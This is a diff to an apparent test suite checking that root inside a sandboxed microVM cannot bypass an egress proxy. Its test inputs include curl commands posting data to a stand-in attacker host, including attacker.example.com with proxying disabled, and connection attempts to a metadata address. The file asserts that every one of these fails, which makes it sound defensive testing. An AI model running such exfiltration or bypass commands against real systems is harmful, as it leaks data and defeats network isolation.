@@ -18,8 +18,17 @@ GW = netns.GATEWAY
 NEIGHBOUR = netns.SUBNET.network_address + 17  # another sandbox's link address
 
 
-def _py_connect(host: str, port: int) -> str:
-    return f"python3 -c \"import socket; socket.create_connection(('{host}', {port}), timeout=3)\""
+# one guest process tries every destination (a Python start costs ~0.7 s under TCG): one line each
+CONNECT = """
+import socket, sys
+for target in sys.argv[1:]:
+    host, port = target.rsplit(":", 1)
+    try:
+        socket.create_connection((host, int(port)), timeout=3).close()
+        print(target, "connected")
+    except OSError as e:
+        print(target, "failed", e.errno)
+"""
 
 
 # as root in the guest (the image has no iproute2: the ioctls themselves): a default route through
@@ -45,13 +54,20 @@ for what, call in (
         print(what, "refused")
 """
 BYPASS = (
-    _py_connect(ATTACKER, 80),
-    _py_connect(ALLOWED, 80),
-    _py_connect(METADATA, 80),
-    _py_connect(microvm_net.HOST_ADDR, 22),  # the VM namespace's own end: nothing listens or answers
-    _py_connect(GW, 22),  # the gateway: the proxy and DNS ports only
-    f"curl -sS --max-time 5 --noproxy '*' http://{ATTACKER}/upload -d x",
+    f"{ATTACKER}:80",
+    f"{ALLOWED}:80",
+    f"{METADATA}:80",
+    f"{microvm_net.HOST_ADDR}:22",  # the VM namespace's own end: nothing listens or answers
+    f"{GW}:22",  # the gateway: the proxy and DNS ports only
 )
+
+
+def _connects(sb, *targets: str) -> list[str]:
+    """The targets root in the guest could connect to."""
+    r = sb.commands.run(["python3", "-c", CONNECT, *targets], user="root", timeout=120)
+    lines = r.stdout.splitlines()
+    assert r.exit_code == 0 and len(lines) == len(targets), (r.stdout, r.stderr)
+    return [line.split()[0] for line in lines if line.split()[1] == "connected"]
 
 
 def _root(sb, cmd: str):
@@ -66,15 +82,15 @@ def test_microvm_guest_root_cannot_route_around_the_proxy(net_home, world):  # n
         # root in the guest is root of a user namespace: the guest kernel's network is not its to change
         r = sb.commands.run(["python3", "-c", ROUTE_AROUND], user="root", timeout=60)
         assert r.stdout.split("\n") == ["route refused", "address refused", "packet refused", ""], (r.stdout, r.stderr)
-        for cmd in (*BYPASS, _py_connect(GW, netns.PROXY_PORT), "getent hosts allowed.test"):
+        assert _connects(sb, *BYPASS, f"{GW}:{netns.PROXY_PORT}") == []
+        for cmd in ("getent hosts allowed.test", f"curl -sS --max-time 5 --noproxy '*' http://{ATTACKER}/up -d x"):
             r = _root(sb, cmd)
             assert r.exit_code != 0, (cmd, r.stdout, r.stderr)
         sb.network.update(Network(allow=["allowed.test"]))  # a link for the running VM
         r = sb.commands.run(["/bin/sh", "-c", "curl -sS --max-time 8 http://allowed.test/hello.txt"], timeout=60)
         assert r.exit_code == 0 and r.stdout == "hello from the allowed site\n", r.stderr
-        for cmd in BYPASS:  # with the link: still only the gateway's two ports, under the policy
-            r = _root(sb, cmd)
-            assert r.exit_code != 0, (cmd, r.stdout, r.stderr)
+        # with the link: still only the gateway's proxy (and DNS) port, under the policy
+        assert _connects(sb, *BYPASS, f"{GW}:{netns.PROXY_PORT}") == [f"{GW}:{netns.PROXY_PORT}"]
         r = _root(sb, "curl -sS --max-time 8 -o /dev/null -w '%{http_code}' http://attacker.example.com/up -d x")
         assert r.stdout == "403", (r.stdout, r.stderr)
         # what the proxy saw came from this sandbox's link address (the guest's own address was rewritten)
